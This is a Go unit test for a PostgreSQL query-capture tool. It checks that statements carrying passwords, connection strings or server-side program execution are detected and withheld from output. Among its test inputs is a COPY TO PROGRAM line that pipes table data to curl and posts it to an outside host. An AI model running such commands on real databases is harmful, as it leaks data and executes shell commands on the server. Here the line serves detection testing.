package capture

import (
	"strings"
	"testing"
)

func TestHoldsSecret(t *testing.T) {
	tests := []struct {
		q    string
		want bool
	}{
		{"CREATE ROLE app LOGIN PASSWORD 'Sup3rS3cretPW!'", true},
		{"create user app with encrypted password 'md5abc'", true},
		{"ALTER ROLE app PASSWORD 'x' VALID UNTIL '2030-01-01'", true},
		{"ALTER USER app WITH PASSWORD NULL", true},
		{"CREATE ROLE app PASSWORD $1", true}, // normalized by a newer server: still nothing to keep
		{"/* app */ ALTER ROLE app WITH LOGIN PASSWORD 'x'", true},
		{"CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'app', password 'pw')", true},
		{"ALTER USER MAPPING FOR app SERVER remote OPTIONS (SET password 'pw')", true},
		{"CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db', dbname 'x')", true},
		{"ALTER SYSTEM SET work_mem = '64MB'", true},
		{"ALTER   SYSTEM RESET ALL", true},
		{"COPY t TO PROGRAM 'curl -d @- https://x?token=abc'", true},
		{"COPY (SELECT * FROM t) TO PROGRAM 'gzip > /tmp/x.gz'", true},
		{"CREATE SUBSCRIPTION s CONNECTION 'host=a password=b' PUBLICATION p", true},
		{"ALTER SUBSCRIPTION s CONNECTION 'host=a password=b'", true},
		{"SET app.api_secret = 'abc'", true},
		{"SET LOCAL myapp.jwt_token TO 'abc'", true},
		{"ALTER ROLE app SET app.password = 'x'", true},
		{"ALTER DATABASE shop SET app.api_key = 'x'", true},
		{"DO $$ BEGIN EXECUTE 'CREATE ROLE x PASSWORD ''y'''; END $$", true},
		{"SELECT 1; ALTER ROLE app PASSWORD 'x'", true},
		{"SELECT * FROM users WHERE id = 1; CREATE ROLE x PASSWORD 'y';", true},
		{"EXPLAIN ANALYZE SELECT 1; ALTER SYSTEM SET x = 1", true},
		// Text the parser rejects, with a word such statements need: redacted.
		{"CREATE ROLE x PASSWORD 'unterminated", true},
		{"ALTER ROLE x PASSWORD 'a' WITH SOMETHING NEW", true},
		{"ALTER SYSTEM SET x = 'y' garbage (", true},

		// Not secrets.
		{"SELECT * FROM users WHERE password = $1", false},
		{"INSERT INTO events (kind, payload) VALUES ('login', '{\"method\":\"password\"}')", false},
		{"UPDATE users SET password_hash = $1 WHERE id = $2", false},
		{"WITH t AS (SELECT * FROM tokens) SELECT * FROM t", false},
		{"  (SELECT option_id FROM product_options) UNION SELECT 1", false},
		{"SELECT 'a; b' FROM system_events", false}, // parsed: one SELECT
		{"CREATE ROLE reader NOLOGIN", false},
		{"ALTER ROLE reader SET statement_timeout = '5s'", false},
		{"SET search_path = app, public", false},
		{"COPY t FROM STDIN WITH (FORMAT csv)", false},
		{"COPY t TO '/tmp/options.csv'", false},
		{"CREATE INDEX ON users (email)", false},
		{"VACUUM ANALYZE system_events", false},
		{"SELECT 1", false},
		{"", false},
	}
	for _, tt := range tests {
		if got := HoldsSecret([]byte(tt.q)); got != tt.want {
			t.Errorf("HoldsSecret(%q) = %v, want %v", tt.q, got, tt.want)
		}
	}
}

// TestSecretsNeverEmitted: whatever the reader, a statement that holds a
// secret is skipped as ReasonSecret and its text goes nowhere.
func TestSecretsNeverEmitted(t *testing.T) {
	const pw = "Sup3rS3cretPW"
	inputs := map[Format]string{
		FormatStderr: "2026-11-25 16:42:47.616 UTC [1] LOG:  duration: 0.1 ms  statement: CREATE ROLE app PASSWORD '" + pw + "'\n" +
			"2026-11-25 16:42:47.617 UTC [1] LOG:  statement: ALTER SYSTEM SET app.x = '" + pw + "'\n" +
			"2026-11-25 16:42:47.618 UTC [1] LOG:  duration: 0.1 ms  statement: SELECT 1\n",
		FormatPGSS: "query,calls,total_exec_time\n" +
			"\"CREATE USER MAPPING FOR app SERVER s OPTIONS (password '" + pw + "')\",1,1\n" +
			"\"COPY t TO PROGRAM 'curl " + pw + "'\",1,1\n" +
			"SELECT 1,1,1\n",
		FormatSQL: "CREATE ROLE app PASSWORD '" + pw + "';\nSELECT 1;\nALTER USER app PASSWORD '" + pw + "';\n",
	}
	for format, in := range inputs {
		var texts []string
		st, err := Read(strings.NewReader(in), "in", format, func(s *Statement) error {
			texts = append(texts, string(s.Query))
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		if len(texts) != 1 || strings.Contains(strings.Join(texts, "\n"), pw) {
			t.Errorf("%s: emitted %q", format, texts)
		}
		if c := st.Skipped[ReasonSecret]; c == nil || c.Count != 2 {
			t.Errorf("%s: skipped %v", format, st.Skipped)
		}
	}
}
